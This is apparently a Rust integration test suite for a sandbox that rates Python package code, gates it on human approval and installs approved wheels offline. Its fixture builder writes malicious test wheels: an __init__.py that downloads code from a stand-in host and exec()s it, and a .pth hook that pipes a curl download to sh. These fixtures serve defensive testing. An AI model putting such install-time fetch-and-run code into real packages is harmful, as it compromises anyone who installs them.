//! Dependencies without open internet, and no package code run unassessed, through the whole
//! pipeline: `airlock run --packages` has an executor resolve the specs to exact wheels through
//! the egress proxy and rate every file in them that can run before the gate decides; the
//! request's rating is the highest of its own and its packages'; the approver sees each package;
//! the executor installs exactly the wheels approved (checked against their digests) in a
//! container with no network and runs the program with them mounted read-only.
//!
//! The index is a real PEP 503 index served on loopback by Python's `http.server`, pinned in
//! the egress config (an operator's local mirror); a link in it to a host that is not allowed
//! must be refused by the proxy. The last test installs a real package from PyPI: this machine
//! class reaches PyPI (`ops/install-deps` installs from it), so it is not skipped when PyPI is
//! missing; it fails.

use airlock_protocol::{Event, EventKind};
use airlock_tests::{Stack, events_of, finish_run};
use std::io::{BufRead as _, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// Builds pure-Python wheels and a simple index over them (`make.py ROOT [swap]`):
/// - `airlock-probe 1.0`, a module with `VALUE = 'probe ok'`;
/// - `airlock-exfil 1.0`, whose only file link points at a host outside the allow-list;
/// - `tablefmt-rt 1.0`, whose `__init__.py` downloads code and runs it (BLOCKED written inline);
/// - `pthhook 1.0`, a harmless module beside a `.pth` file whose `import` line runs a shell
///   download at interpreter start.
///
/// With `swap`, `tablefmt-rt 1.0` is rebuilt with other bytes (a harmless body) and its index
/// page pointed at them: the index changed after assessment.
const MAKE_INDEX: &str = r##"
import base64, hashlib, os, sys, zipfile
root = sys.argv[1]
swap = len(sys.argv) > 2
os.makedirs(os.path.join(root, "files"), exist_ok=True)

def wheel(name, version, files):
    dist = f"{name}-{version}.dist-info"
    files = dict(files)
    files[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n".encode()
    files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: airlock-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    record.append(f"{dist}/RECORD,,")
    files[f"{dist}/RECORD"] = ("\n".join(record) + "\n").encode()
    filename = f"{name}-{version}-py3-none-any.whl"
    path = os.path.join(root, "files", filename)
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in files.items():
            archive.writestr(member, data)
    with open(path, "rb") as f:
        return filename, hashlib.sha256(f.read()).hexdigest()

def project(project_name, link):
    directory = os.path.join(root, "simple", project_name)
    os.makedirs(directory, exist_ok=True)
    with open(os.path.join(directory, "index.html"), "w") as f:
        f.write(f'<!DOCTYPE html><html><body><a href="{link}">{link.split("/")[-1].split("#")[0]}</a></body></html>\n')

def local(name, version, files):
    filename, sha = wheel(name, version, files)
    project(name.replace("_", "-"), f"../../files/{filename}#sha256={sha}")
    print(f"{filename} {sha}")

if swap:
    local("tablefmt_rt", "1.0", {"tablefmt_rt/__init__.py": b"def table(rows):\n    return rows\n"})
    sys.exit(0)
local("airlock_probe", "1.0", {"airlock_probe/__init__.py": b"VALUE = 'probe ok'\n"})
exfil, exfil_sha = wheel("airlock_exfil", "1.0", {"airlock_exfil/__init__.py": b"VALUE = 'should never arrive'\n"})
project("airlock-exfil", f"http://not-allowed.example/files/{exfil}#sha256={exfil_sha}")
local("tablefmt_rt", "1.0", {"tablefmt_rt/__init__.py": (
    b"import urllib.request\n"
    b"_ext = urllib.request.urlopen('http://203.0.113.7/tablefmt_rt/ext.py').read()\n"
    b"exec(_ext)\n"
    b"def table(rows):\n    return rows\n"
)})
local("pthhook", "1.0", {
    "pthhook/__init__.py": b"VALUE = 1\n",
    "zz_pthhook.pth": b"import os; os.system('curl -s http://203.0.113.7/stage2 | sh')\n",
})
"##;

/// A local package index on 127.0.0.1, stopped when dropped.
struct LocalIndex {
    server: Child,
    port: u16,
    tree: std::path::PathBuf,
    /// Each wheel's file name and SHA-256 as built.
    wheels: Vec<(String, String)>,
    _root: tempfile::TempDir,
}

impl LocalIndex {
    fn start() -> LocalIndex {
        let root = tempfile::tempdir().expect("index dir");
        let tree = root.path().join("index");
        let made = Command::new("python3")
            .args(["-c", MAKE_INDEX])
            .arg(&tree)
            .output()
            .expect("python3 (needed to build the test index)");
        assert!(made.status.success(), "building the index: {made:?}");
        let wheels = String::from_utf8_lossy(&made.stdout)
            .lines()
            .filter_map(|l| l.split_once(' ').map(|(f, d)| (f.to_owned(), d.to_owned())))
            .collect();
        let mut server = Command::new("python3")
            .args(["-u", "-m", "http.server", "--bind", "127.0.0.1", "0", "--directory"])
            .arg(&tree)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 -m http.server");
        // "Serving HTTP on 127.0.0.1 port 40123 (http://127.0.0.1:40123/) ..."
        let mut line = String::new();
        let stdout = server.stdout.take().expect("server stdout");
        BufReader::new(stdout).read_line(&mut line).expect("server banner");
        let port = line
            .split_whitespace()
            .skip_while(|w| *w != "port")
            .nth(1)
            .and_then(|p| p.parse().ok())
            .unwrap_or_else(|| panic!("no port in the server's banner {line:?}"));
        LocalIndex {
            server,
            port,
            tree,
            wheels,
            _root: root,
        }
    }

    /// The digest a wheel was built with.
    fn sha256_of(&self, file: &str) -> String {
        self.wheels
            .iter()
            .find(|(f, _)| f == file)
            .map(|(_, d)| format!("sha256:{d}"))
            .unwrap_or_else(|| panic!("no wheel {file} in {:?}", self.wheels))
    }

    /// Replaces `tablefmt-rt 1.0` on the index with other bytes, index page included.
    fn swap_tablefmt(&self) {
        let made = Command::new("python3")
            .args(["-c", MAKE_INDEX])
            .arg(&self.tree)
            .arg("swap")
            .output()
            .expect("python3");
        assert!(made.status.success(), "swapping the wheel: {made:?}");
    }

    /// The executor's egress config for this index, as an operator would pin a local mirror,
    /// with a package cache of the test's own.
    fn egress_config(&self, cache: &Path) -> String {
        format!(
            "[executor.egress]\nallow_hosts = [\"index.test\"]\nindex_host = \"index.test\"\nindex_path = \"/simple/\"\n\
             [executor.egress.pinned]\n\"index.test\" = \"http://127.0.0.1:{}\"\n\
             [executor.packages]\ncache_dir = {:?}\n",
            self.port,
            cache.display().to_string()
        )
    }
}

impl Drop for LocalIndex {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

fn egress_of(events: &[airlock_protocol::Envelope]) -> Vec<airlock_protocol::Egress> {
    events
        .iter()
        .filter_map(|e| match &e.event {
            Event::Egress(egress) => Some(egress.clone()),
            _ => None,
        })
        .collect()
}

fn write_program(dir: &Path, name: &str, code: &str) -> std::path::PathBuf {
    let file = dir.join(name);
    std::fs::write(&file, code).expect("program");
    file
}

/// Waits until a request other than `known` ones is waiting for a human; returns it as
/// `airlock override list --json` shows it.
fn wait_pending(stack: &Stack, known: &[String]) -> serde_json::Value {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(120) {
        let out = stack.output(&["override", "list", "--json"]);
        if out.status.success() {
            let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
            if let Some(item) = list
                .as_array()
                .into_iter()
                .flatten()
                .find(|i| !known.iter().any(|k| i["request_id"] == k.as_str()))
            {
                return item.clone();
            }
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    panic!("no request became pending:\n{}", stack.diagnostics());
}

#[tokio::test(flavor = "multi_thread")]
async fn package_code_is_rated_before_the_gate_decides_and_only_the_approved_wheels_run() {
    let index = LocalIndex::start();
    let cache = tempfile::tempdir().expect("package cache");
    let config = format!(
        "{}[gate]\noverride_timeout_secs = 180\n",
        index.egress_config(cache.path())
    );
    let stack = tokio::task::spawn_blocking(move || Stack::start_with(&config))
        .await
        .expect("stack");

    // Issue 20, finding 2: Mai's own two lines are harmless, the package's __init__.py downloads
    // code and runs it. The request is rated by the package's code: BLOCKED, and it waits for a
    // human who is shown the package, its version, digest and rating.
    let tables = stack.run_in_background(
        "tables.py",
        "import tablefmt_rt\nprint(tablefmt_rt.table([1, 2]))\n",
        &["--packages", "tablefmt-rt==1.0"],
    );
    let asked = wait_pending(&stack, &[]);
    let id = asked["request_id"].as_str().expect("request id").to_owned();
    assert_eq!(asked["level"], "BLOCKED", "{asked}");
    let package = &asked["packages"][0];
    assert_eq!(package["wheel"]["name"], "tablefmt-rt", "{asked}");
    assert_eq!(package["wheel"]["version"], "1.0", "{asked}");
    assert_eq!(
        package["wheel"]["sha256"],
        index.sha256_of("tablefmt_rt-1.0-py3-none-any.whl").as_str(),
        "{asked}"
    );
    assert_eq!(package["level"], "BLOCKED", "{asked}");
    assert_eq!(package["findings"][0]["file"], "tablefmt_rt/__init__.py", "{asked}");
    let explanation = asked["explanation"].as_str().unwrap_or_default();
    assert!(
        explanation.contains("Package \"tablefmt-rt\" 1.0 raises the rating to BLOCKED"),
        "the explanation says which package raised the level: {explanation}"
    );
    let shown = String::from_utf8_lossy(&stack.output(&["override", "list"]).stdout).into_owned();
    assert!(
        shown.contains("package tablefmt-rt 1.0 rated BLOCKED")
            && shown.contains(&index.sha256_of("tablefmt_rt-1.0-py3-none-any.whl")),
        "the approver's list shows the package, its version, rating and digest:\n{shown}"
    );
    assert!(
        !events_of(&stack, &id)
            .await
            .iter()
            .any(|e| e.kind() == EventKind::ExecStarted),
        "nothing runs before a human answers"
    );

    // The index changes after assessment (a release swapped), and the executor that runs the
    // approval holds no copy (another host would not): it fetches the approved wheel again,
    // pinned by its digest, and refuses the other bytes it is served. Nothing runs.
    index.swap_tablefmt();
    std::fs::remove_dir_all(cache.path().join("wheels")).expect("emptying the wheel store");
    stack.answer("approve", &id, "reviewed by the test");
    let (json, status) = finish_run(tables);
    assert_ne!(status, 0, "{json}");
    assert_eq!(json["outcome"], "failed", "{json}");
    let reason = json["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("other bytes than the wheels assessed and approved"),
        "refused by digest: {json}"
    );
    assert!(
        !events_of(&stack, &id)
            .await
            .iter()
            .any(|e| e.kind() == EventKind::ExecStarted),
        "the swapped wheel never ran: {json}"
    );

    // A .pth file whose import line runs a download at interpreter start is read as code.
    let hooked = stack.run_in_background("hooked.py", "print('hello')\n", &["--packages", "pthhook==1.0"]);
    let asked = wait_pending(&stack, std::slice::from_ref(&id));
    let hook_id = asked["request_id"].as_str().expect("request id").to_owned();
    assert_eq!(asked["level"], "BLOCKED", "{asked}");
    let findings = asked["packages"][0]["findings"].as_array().cloned().unwrap_or_default();
    assert!(
        findings
            .iter()
            .any(|f| f["file"] == "zz_pthhook.pth" && f["finding"]["severity"] == "BLOCKED"),
        "{asked}"
    );
    stack.answer("deny", &hook_id, "a start-up hook");
    let (json, _) = finish_run(hooked);
    assert_eq!(json["outcome"], "denied", "{json}");

    // A harmless package is rated as its code deserves and runs; every fetch goes through the
    // proxy and is audited under the request (they happen while it is assessed).
    let programs = tempfile::tempdir().expect("programs");
    let uses_probe = write_program(
        programs.path(),
        "uses_probe.py",
        "import airlock_probe, os\nprint(airlock_probe.VALUE)\nprint(airlock_probe.__file__.startswith('/opt/airlock/packages'))\n",
    );
    let (json, status) = stack.run_json(&uses_probe, &["--packages", "airlock-probe==1.0"]);
    assert_eq!(status, 0, "{json}\n{}", stack.diagnostics());
    assert_eq!(json["stdout"], "probe ok\nTrue\n", "{json}");
    assert_eq!(json["verdict"], "LOW", "{json}");
    let rid = json["request_id"].as_str().expect("request id");
    let events = events_of(&stack, rid).await;
    let egress = egress_of(&events);
    assert!(
        egress.len() >= 2,
        "the index page and the wheel are two audited fetches: {egress:?}"
    );
    for fetch in &egress {
        assert!(fetch.allowed, "{fetch:?}");
        assert_eq!(fetch.host, "index.test", "{fetch:?}");
        assert!(fetch.method == "GET" || fetch.method == "HEAD", "{fetch:?}");
        assert_eq!(fetch.status, Some(200), "{fetch:?}");
    }
    assert!(
        egress
            .iter()
            .any(|f| f.url.ends_with("airlock_probe-1.0-py3-none-any.whl") && f.bytes > 0),
        "the wheel's download is recorded with its size: {egress:?}"
    );
    let assessed = events
        .iter()
        .find_map(|e| match &e.event {
            Event::Assessed(a) => Some(a.assessment.clone()),
            _ => None,
        })
        .expect("an assessment");
    assert_eq!(assessed.packages.len(), 1, "{assessed:?}");
    assert_eq!(
        assessed.packages[0].wheel.sha256.as_str(),
        index.sha256_of("airlock_probe-1.0-py3-none-any.whl")
    );

    // The same set again is neither fetched nor installed again.
    let (json, status) = stack.run_json(&uses_probe, &["--packages", "airlock_probe==1.0"]);
    assert_eq!(status, 0, "{json}");
    assert_eq!(json["stdout"], "probe ok\nTrue\n", "{json}");
    let again = events_of(&stack, json["request_id"].as_str().expect("rid")).await;
    assert_eq!(egress_of(&again), vec![], "a cached set is not fetched again");

    // The installed packages are mounted read-only, and only for the request that named them.
    let (json, status) = stack.run_code(
        "tamper.py",
        "import airlock_probe, pathlib\npathlib.Path(airlock_probe.__file__).write_text('VALUE = 1')\n",
        &["--packages", "airlock-probe==1.0"],
    );
    assert_eq!(status, 1, "writing into the package mount must fail: {json}");
    assert!(
        json["stderr"].as_str().unwrap_or("").contains("Read-only file system"),
        "{json}"
    );
    let (json, status) = stack.run_json(&uses_probe, &[]);
    assert_eq!(status, 1, "{json}");
    assert!(
        json["stderr"].as_str().unwrap_or("").contains("ModuleNotFoundError"),
        "a request without --packages sees none: {json}"
    );

    // Packages that cannot be resolved end the request with a typed reason before any decision:
    // a wheel linked from a host that is not allowed (the proxy refuses it, and the refusal is
    // audited), and a package the index does not have.
    let json = unresolved_before_any_decision(&stack, "airlock-exfil==1.0", "egress_refused");
    let refused = egress_of(&events_of(&stack, json["request_id"].as_str().expect("rid")).await);
    assert!(
        refused.iter().any(|f| !f.allowed && f.host == "not-allowed.example"),
        "the refused fetch is audited with its host: {refused:?}"
    );
    unresolved_before_any_decision(&stack, "airlock-missing==9.9", "unknown_package");
}

/// Submits a program naming `package`, which cannot be resolved: the request must end refused
/// (`packages_unresolved`, the detail starting with `failure`), with no decision, and the
/// program must not run.
fn unresolved_before_any_decision(stack: &Stack, package: &str, failure: &str) -> serde_json::Value {
    let marker = "the program ran";
    let (json, status) = stack.run_code("never.py", &format!("print({marker:?})\n"), &["--packages", package]);
    assert_ne!(status, 0, "{package}: {json}");
    assert!(
        !json["stdout"].as_str().unwrap_or("").contains(marker),
        "{package}: {json}"
    );
    assert_eq!(json["refusal"], "packages_unresolved", "{package}: {json}");
    assert!(
        json["reason"]
            .as_str()
            .unwrap_or_default()
            .contains(&format!("{failure}:")),
        "{package}: {json}"
    );
    json
}

#[tokio::test(flavor = "multi_thread")]
async fn a_real_package_from_pypi_through_the_proxy() {
    let stack = tokio::task::spawn_blocking(Stack::start).await.expect("stack");
    let (json, status) = stack.run_code(
        "six_version.py",
        "import six\nprint(six.__version__)\n",
        &["--packages", "six==1.16.0"],
    );
    assert_eq!(
        status,
        0,
        "installing six==1.16.0 from PyPI through the egress proxy (this machine class reaches PyPI): {json}\n{}",
        stack.diagnostics()
    );
    assert_eq!(json["stdout"], "1.16.0\n", "{json}");
    let egress = egress_of(&events_of(&stack, json["request_id"].as_str().expect("rid")).await);
    assert!(egress.iter().any(|f| f.allowed && f.host == "pypi.org"), "{egress:?}");
    assert!(
        egress
            .iter()
            .any(|f| f.allowed && f.host == "files.pythonhosted.org" && f.bytes > 0),
        "{egress:?}"
    );
}

/// Under gVisor: the resolve and install steps run in their own containers under runc (pip
/// unpacks wheels and runs none of their code; the download needs a network, which runsc,
/// registered with `--network=none`, cannot join), and the program runs under the runtime the
/// gate granted, runsc, with the installed packages mounted read-only.
#[tokio::test(flavor = "multi_thread")]
async fn packages_install_for_a_program_that_runs_under_gvisor() {
    let index = LocalIndex::start();
    let cache = tempfile::tempdir().expect("package cache");
    let config = format!(
        "{}[executor.runtimes]\navailable = [\"runc\", \"runsc\"]\n\n\
         [gate.policy.runtimes]\ngenerated = \"runsc\"\nunavailable = \"deny\"\n",
        index.egress_config(cache.path())
    );
    let stack = tokio::task::spawn_blocking(move || Stack::start_with(&config))
        .await
        .expect("stack");
    let code = "import os, airlock_probe\nprint(airlock_probe.VALUE, os.uname().release)\n";
    let (result, status) = stack.run_code("probe.py", code, &["--packages", "airlock-probe==1.0"]);
    assert_eq!(
        (status, &result["outcome"]),
        (0, &serde_json::json!("finished")),
        "{result:#}"
    );
    let host = std::fs::read_to_string("/proc/sys/kernel/osrelease").expect("the host's kernel release");
    let stdout = result["stdout"].as_str().unwrap_or_default();
    assert!(stdout.starts_with("probe ok "), "{result:#}");
    assert!(
        !stdout.contains(host.trim()),
        "the program saw the host's kernel: {stdout}"
    );
    let id = result["request_id"].as_str().expect("request id");
    let events = events_of(&stack, id).await;
    let started = events.iter().find_map(|e| match &e.event {
        Event::ExecStarted(start) => Some(start.runtime),
        _ => None,
    });
    assert_eq!(started, Some(airlock_protocol::Runtime::Runsc), "{events:#?}");
    // The wheel came through the install proxy, from the pinned index.
    assert!(
        egress_of(&events)
            .iter()
            .any(|e| e.allowed && e.host == "index.test" && e.url.ends_with("airlock_probe-1.0-py3-none-any.whl")),
        "{:#?}",
        egress_of(&events)
    );
}
